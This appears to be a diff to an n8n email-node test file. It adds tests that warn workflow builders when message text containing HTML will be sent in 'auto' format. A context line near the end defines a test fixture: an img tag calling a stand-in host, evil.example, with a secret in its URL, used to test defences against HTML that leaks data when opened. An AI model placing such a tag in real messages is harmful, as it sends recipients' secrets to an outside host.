@@ -1,3 +1,4 @@
+import { ExecuteContext } from 'n8n-core';
 import type { INodeParameters } from 'n8n-workflow';
 import { asked, own, provider, runForOne, useMailboxes } from '../../../harness/mail';
 import { failureOf } from '../../../harness/steps';
@@ -95,6 +96,31 @@ it.each(['', 'Hello **Ann**,\\nsee you', 'Tom &amp; <b>Ann</b> there'])(
 		expect(await runForOne('email.sendEmail', { to, message })).toMatchObject({ sent: true });
 	},
 );
+
+describe.each(STEPS)('%s of a workflow', (step, field, given) => {
+	it.each([
+		['Hello Ann,<br>see you', 'auto', 1],
+		['Tom &amp; Ann', 'auto', 1],
+		['<p>Hello Ann,<br>see you</p>', 'auto', 0],
+		['if a<b and c>d then', 'auto', 0],
+		['Hello Ann,<br>see you', 'html', 0],
+		['Hello Ann,<br>see you', 'text', 0],
+	])(
+		'tells the person who built it of HTML that others would read: %j as %s',
+		async (text, format, told) => {
+			const formats =
+				field === 'body' ? { options: { bodyFormat: format } } : { messageFormat: format };
+			const parameters = { ...(await given()), ...formats, [field]: text };
+			const hint = jest.spyOn(ExecuteContext.prototype, 'addExecutionHints');
+			await runForOne(step, parameters);
+			const hints = hint.mock.calls
+				.flat()
+				.filter(({ message }) => message.includes('Message Format'));
+			hint.mockRestore();
+			expect(hints).toHaveLength(told);
+		},
+	);
+});
 
 describe('HTML that loads something by itself', () => {
 	const EVIL = '<p>Hello<img src="https://evil.example/?c=SECRET"></p>';
